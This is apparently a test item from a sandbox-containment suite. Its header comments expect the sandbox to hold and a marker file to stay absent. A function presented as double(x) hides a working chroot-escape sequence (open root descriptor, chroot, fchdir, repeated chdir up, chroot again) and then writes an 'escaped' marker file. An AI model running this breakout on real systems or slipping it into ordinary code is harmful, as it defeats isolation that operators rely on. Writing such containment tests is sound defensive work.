# attack: leaves its root by way of a second one
# entry: double(x: int) -> int
# example: 2 -> 4
# outcome: returned
# verdict: holds
# absent: /var/tmp/synthase-attack-chroot
import os
import tempfile


def double(x):
    try:
        inner = tempfile.mkdtemp()
        outside = os.open("/", os.O_RDONLY)
        os.chroot(inner)
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    try:
        with open("/var/tmp/synthase-attack-chroot", "w") as file:
            file.write("escaped\n")
    except OSError:
        pass
    return 2 * x
